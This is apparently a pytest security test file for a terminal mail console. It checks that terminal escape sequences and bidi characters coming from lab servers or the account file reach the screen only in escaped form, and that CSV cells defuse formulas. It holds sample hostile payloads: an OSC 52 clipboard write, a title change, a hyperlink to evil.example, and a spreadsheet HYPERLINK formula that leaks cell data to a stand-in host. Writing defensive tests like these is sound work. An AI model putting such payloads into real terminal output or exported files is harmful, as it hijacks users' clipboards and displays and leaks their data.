"""No escape sequence from a server or the account file reaches the user's terminal.

The real console runs in a pseudo-terminal against lab servers that put OSC 52 (write the
clipboard), OSC 0 (window title), OSC 8 (hyperlink), CSI 2J/SGR and C1 controls in every text
position a check shows: the greeting, the capability line, a tagged NO with [ALERT], a BYE, the TLS
certificate's subject; the account file adds control and bidi characters to names and tags. Every
byte the app writes is captured and searched: the payloads must appear only in their visible,
escaped form.
"""

from __future__ import annotations

import asyncio
import fcntl
import os
import pty
import signal
import struct
import subprocess
import sys
import termios
import threading
import time
from pathlib import Path

import pytest

from console.core.safe_text import csv_cell, json_dumps_safe, one_line, visible
from console.lab import CertKind, ImapScenario, Lab, SmtpScenario
from console.lab.server import HOST

PASSWORD = "pty-Pass-word"
USERS = {f"{n}@evil.example": PASSWORD for n in ("greet", "alert", "bye", "cert")}

OSC52 = "\x1b]52;c;SGVsbG8=\x1b\\"  # clipboard := "Hello"
OSC0 = "\x1b]0;pwned-title\x1b\\"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
SGR = "\x1b[31;7mREDREV\x1b[0m"
CSI2J = "\x1b[2J"
C1 = "\x9b31mC1RED"
BIDI = "\u202eevil\u202c"
PAYLOAD = f"{OSC52} {OSC0} {OSC8} {SGR} {CSI2J} {C1} {BIDI}"

# What may never be in the stream: each payload's ESC/C1 form (Textual's own sequences never
# contain these markers).
FORBIDDEN = (
    b"\x1b]52;c;",
    b"\x1b]0;pwned-title",
    b"\x1b]0;cert-title",
    b"\x1b]8;;http://evil",
    b"\x1b[31;7m",
    "\x9b".encode(),
    "\u202e".encode(),
)


def test_visible_escapes_every_kind_of_control() -> None:
    shown = visible(PAYLOAD)
    assert "\x1b" not in shown and "\x9b" not in shown and "\u202e" not in shown
    assert "\\x1b]52;c;SGVsbG8=" in shown
    assert "\\x9b31mC1RED" in shown
    assert "\\u202eevil\\u202c" in shown
    assert visible("plain text [/] stays") == "plain text [/] stays"
    assert visible("two\nlines\tand tab") == "two\nlines\tand tab"
    assert one_line("two\nlines\r\x07") == "two lines\\x0d\\x07"
    assert visible("zero\u200bwidth\ufeff") == "zero\\u200bwidth\\ufeff"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_defuses_formulas(start: str) -> None:
    cell = csv_cell(f'{start}HYPERLINK("http://evil.example/?leak="&B2)')
    assert cell.startswith("'")
    assert "\r" not in cell
    assert csv_cell(None) == ""
    assert csv_cell(993) == "993"
    assert csv_cell("ana@fern.example") == "ana@fern.example"


def test_json_stays_lossless_and_terminal_safe() -> None:
    import json

    text = json_dumps_safe({"message": PAYLOAD})
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text
    assert json.loads(text) == {"message": PAYLOAD}


def _server(port: int, ca: Path) -> str:
    return (
        f'host = "{HOST}"\nport = {port}\nsecurity = "tls"\ntls_ca_file = "{ca}"\n'
        f"password_command = \"printf '%s' '{PASSWORD}'\"\n"
    )


def _toml_escape(text: str) -> str:
    return "".join(c if c.isprintable() and c not in '"\\' else f"\\u{ord(c):04x}" for c in text)


class Terminal:
    """The console in a pseudo-terminal; every byte it writes is kept in `output`."""

    def __init__(self, argv: list[str], env: dict[str, str], cols: int, rows: int) -> None:
        master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
        self.proc = subprocess.Popen(
            argv, stdin=slave, stdout=slave, stderr=slave, env=env, start_new_session=True
        )
        os.close(slave)
        self.master = master
        self.output = bytearray()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        while True:
            try:
                chunk = os.read(self.master, 65536)
            except OSError:
                return
            if not chunk:
                return
            self.output += chunk

    def send(self, keys: str) -> None:
        os.write(self.master, keys.encode())

    async def wait_for(self, text: str, timeout: float = 30.0) -> None:
        deadline = time.monotonic() + timeout
        while text.encode() not in self.output:
            if time.monotonic() > deadline or self.proc.poll() is not None:
                tail = bytes(self.output[-2000:]).decode("utf-8", "replace")
                raise AssertionError(f"{text!r} never appeared; last output: {tail!r}")
            await asyncio.sleep(0.1)

    def close(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc.wait(timeout=10)
        self._reader.join(timeout=5)
        os.close(self.master)


async def test_console_writes_no_escape_from_servers_or_the_file(tmp_path: Path) -> None:
    async with Lab() as lab:
        greet, alert, bye, cert, smtp = await lab.start_all(
            [
                ImapScenario(
                    users=USERS,
                    greeting=f"* OK [CAPABILITY {{capabilities}}] hi {PAYLOAD}",
                    capabilities=(*ImapScenario().capabilities, "X-EVIL"),
                    examine_reply=f"NO [ALERT] mailbox {PAYLOAD}",
                ),
                ImapScenario(users=USERS, auth_reply=f"NO [ALERT] {PAYLOAD}"),
                ImapScenario(users=USERS, auth_reply=f"* BYE {PAYLOAD}"),
                ImapScenario(users=USERS, cert=CertKind.HOSTILE_SUBJECT, examine_reply="NO nope"),
                SmtpScenario(users=USERS),
            ]
        )
        ca = lab.ca.ca_file
        parts = ["[settings]\ntimeout = 5\n"]
        for (user, imap), name in zip(
            (("greet", greet), ("alert", alert), ("bye", bye), ("cert", cert)),
            (OSC0, OSC52, f"{BIDI} {C1}", SGR),
            strict=True,
        ):
            parts.append(
                f'[[account]]\nemail = "{user}@evil.example"\n'
                f'name = "{_toml_escape(name)}"\ntags = ["{_toml_escape(OSC8)}"]\n'
                f"[account.smtp]\n{_server(smtp.port, ca)}[account.imap]\n{_server(imap.port, ca)}"
            )
        config = tmp_path / "accounts.toml"
        config.write_text("\n".join(parts), encoding="utf-8")
        env = {
            **{k: v for k, v in os.environ.items() if not k.startswith("MAILCONSOLE")},
            "TERM": "xterm-256color",
            "MAILCONSOLE_STATE_DIR": str(tmp_path / "state"),
            "XDG_CONFIG_HOME": str(tmp_path / "config"),
        }
        term = Terminal(
            [sys.executable, "-m", "console", "--config", str(config)], env, cols=160, rows=48
        )
        try:
            await term.wait_for("conditional")
            await term.wait_for("4 conditional", timeout=40)
            for _ in range(4):  # the detail pane follows the cursor over every account
                term.send("\x1b[B")
                await asyncio.sleep(0.6)
            term.send("\x1b[A" * 4)
            await asyncio.sleep(1.0)
            term.send("q")
            await asyncio.to_thread(term.proc.wait, 15)
        finally:
            term.close()
    stream = bytes(term.output)
    for forbidden in FORBIDDEN:
        assert forbidden not in stream, f"{forbidden!r} reached the terminal"
    text = stream.decode("utf-8", "replace")
    assert "\x9b" not in text and "\u202e" not in text
    # ... and the payloads are there to read, escaped
    assert "\\x1b]52" in text
    assert "\\u202e" in text
